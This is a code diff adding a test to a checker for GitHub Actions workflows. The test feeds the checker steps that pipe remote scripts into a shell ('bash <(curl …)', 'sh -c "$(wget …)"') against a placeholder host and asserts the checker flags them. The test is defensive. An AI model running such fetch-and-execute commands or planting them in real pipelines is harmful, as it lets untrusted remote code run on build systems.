@@ -190,6 +190,25 @@ describe('workflow gate: remote-scripts and require', () => {
     ])
   })
 
+  it('finds `bash <(curl …)` and `sh -c "$(wget …)"`, not `curl … || sh`, and stays linear on hostile lines', async () => {
+    const gate = await check('[remote-scripts, script-injection]', {
+      [WF]: `on: push\njobs:\n  a:\n${job(
+        [
+          '      - run: bash <(curl -s https://example.test/i.sh)',
+          '      - run: sh -c "$(wget -qO- https://example.test/i.sh)"',
+          '      - run: curl -f https://example.test/health || sh ./fallback.sh',
+          `      - run: echo ${'${{'.repeat(50_000)} ${'curl '.repeat(50_000)}| sh`,
+          '',
+        ].join('\n'),
+      )}`,
+    })
+    expect(gate.locations!.map((l) => [l.line, l.col])).toEqual([
+      [6, 14],
+      [7, 14],
+      [9, 150_020],
+    ])
+  })
+
   it('require: some workflow triggers, uses or runs what is asked; says what was not found and where it looked', async () => {
     const files = {
       [WF]: `on: [push, pull_request]\npermissions: {}\njobs:\n  a:\n${job(`      - uses: github/codeql-action/init@${SHA}\n      - run: npm publish --provenance\n`)}`,
